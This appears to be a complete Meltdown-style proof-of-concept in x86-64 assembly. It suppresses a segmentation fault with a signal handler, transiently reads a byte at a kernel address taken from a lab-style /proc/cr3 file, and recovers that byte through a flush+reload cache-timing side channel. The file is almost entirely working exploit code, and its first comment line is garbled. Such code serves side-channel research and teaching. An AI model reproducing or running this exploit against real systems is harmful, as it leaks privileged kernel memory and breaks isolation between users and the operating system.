# says: comes from memory differ
    .equ    PAGE, 4096
    .equ    SIGSEGV, 11
    .equ    UC_RIP, 168                 # offset of uc_mcontext.rip in the ucontext

    .section .rodata
address_file:
    .asciz  "/proc/cr3/secret_address"
length_file:
    .asciz  "/proc/cr3/secret_length"

    .data
action:                                 # struct sigaction, as the kernel wants it
    .quad   handler
    .quad   0x04000004                  # SA_SIGINFO | SA_RESTORER
    .quad   restorer
    .quad   0

    .bss
    .balign PAGE
array:                                  # char array[256 * 4096]
    .skip   256 * PAGE
text:
    .skip   32

    .text
handler:                                # (edi = signal, rsi = siginfo_t, rdx = ucontext)
    lea     rax, [rip + reload]         # after the fault the program goes on there
    mov     [rdx + UC_RIP], rax
    ret
restorer:
    mov     eax, 15                     # rt_sigreturn
    syscall

    .globl  _start
_start:
    mov     edi, SIGSEGV
    lea     rsi, [rip + action]
    xor     edx, edx
    mov     r10d, 8
    mov     eax, 13                     # rt_sigaction
    syscall

    lea     rbx, [rip + array]
    xor     ecx, ecx
promise:                                # every page gets a frame of its own
    mov     byte ptr [rbx + rcx], 1
    add     ecx, PAGE
    cmp     ecx, 256 * PAGE
    jb      promise
    call    calibrate                   # r15 = cycles between a load from the caches and one from memory

    lea     rdi, [rip + address_file]
    call    read_text
    mov     r8d, 16
    call    parse
    mov     r12, rax                    # where the secret is
    lea     rdi, [rip + length_file]    # the kernel looks at its secret, and has it in its L1 cache
    call    read_text

flush:
    xor     ecx, ecx
1:  clflush [rbx + rcx]
    add     ecx, PAGE
    cmp     ecx, 256 * PAGE
    jb      1b
    mfence

transient:
    xor     eax, eax
    mov     al, [r12]
    shl     rax, 12
    mov     al, [rbx + rax]

reload:
    mov     edi, 75
    mov     r9d, 1                      # zero is what a load gets that gets nothing
2:  imul    esi, r9d, 167
    add     esi, 13
    and     esi, 255
    jz      3f
    mov     r10d, esi
    shl     esi, 12
    add     rsi, rbx
    call    time_load
    cmp     eax, r15d
    cmovb   edi, r10d
3:  inc     r9d
    cmp     r9d, 257
    jb      2b

finish:                                 # exit(edi): the byte, or "?"
    mov     eax, 60
    syscall

# time_load: eax = cycles of a load from rsi. Changes rcx, rdx, r8.
time_load:
    rdtscp                              # waits for the loads before it
    mov     r8d, eax
    mov     cl, [rsi]
    rdtscp
    sub     eax, r8d
    ret

# calibrate: r15d = half way between a load from the caches and one from memory. Changes rax, rcx, rdx, rsi, r8.
calibrate:
    mov     rsi, rbx
    clflush [rsi]
    mfence
    call    time_load
    mov     r15d, eax
    call    time_load
    add     r15d, eax
    shr     r15d, 1
    ret

# read_text: the start of the file whose name is at rdi goes to `text`; what cannot be read is empty.
# Changes rax, rcx, rdx, rsi, rdi, r8, r11.
read_text:
    lea     r8, [rip + text]
    mov     byte ptr [r8], 0
    xor     esi, esi
    mov     eax, 2                      # open(name, O_RDONLY)
    syscall
    test    eax, eax
    js      unreadable
    mov     edi, eax
    mov     rsi, r8
    mov     edx, 32
    xor     eax, eax                    # read
    syscall
    mov     eax, 3                      # close
    syscall
unreadable:
    ret

# parse: rax = the number in `text`, of base r8. Changes rcx, rdx, rsi.
parse:
    lea     rsi, [rip + text]
    xor     eax, eax
digit:
    movzx   ecx, byte ptr [rsi]
    inc     rsi
    sub     ecx, 48                     # "0"
    js      parsed                      # newline or the end
    cmp     ecx, 10
    jb      add_digit
    sub     ecx, 39                     # "a" is 10
add_digit:
    imul    rax, r8
    add     rax, rcx
    jmp     digit
parsed:
    ret
